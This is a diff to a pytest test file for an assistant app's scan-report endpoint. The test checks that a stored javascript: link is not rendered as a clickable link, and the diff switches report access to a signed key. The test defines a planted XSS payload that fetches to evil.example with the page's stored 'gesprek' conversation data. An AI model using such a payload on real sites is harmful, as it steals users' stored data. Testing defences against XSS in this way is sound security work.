@@ -13,11 +13,13 @@ import pytest
 from pydantic import ValidationError
 
 from assistant import db
+from assistant.chat_session import report_key
 from assistant.knowledge.schema import Bron
 from assistant.scan.definition import load_definition
 from assistant.scan.models import Scan
 from assistant.scan.regelingen import Profiel, find_regelingen
 from assistant.scan.scoring import advise, score
+from tests.conftest import SESSION_SECRET
 from tests.scan.samples import WORRIED, filled
 
 PLANTED = "javascript:fetch('//evil.example/?'+localStorage.getItem('gesprek'))"
@@ -65,7 +67,7 @@ def test_an_unsafe_link_in_a_stored_result_is_not_a_link(live_api, settings):
                          resultaat=hostile_result(definition), toestemming_versie="v1",
                          toestemming_op=datetime.now(UTC), aangemaakt_op=datetime.now(UTC)))
     report = httpx.get(f"{live_api}/api/v1/scans/{'ee' * 16}/rapport",
-                       params={"gesprek": "gesprek-oud"}, timeout=10)
+                       params={"sleutel": report_key(SESSION_SECRET, "ee" * 16)}, timeout=10)
     assert report.status_code == 200
     assert 'href="javascript' not in report.text
     assert "Regeling" in report.text and "KVK" in report.text  # still named, not linked
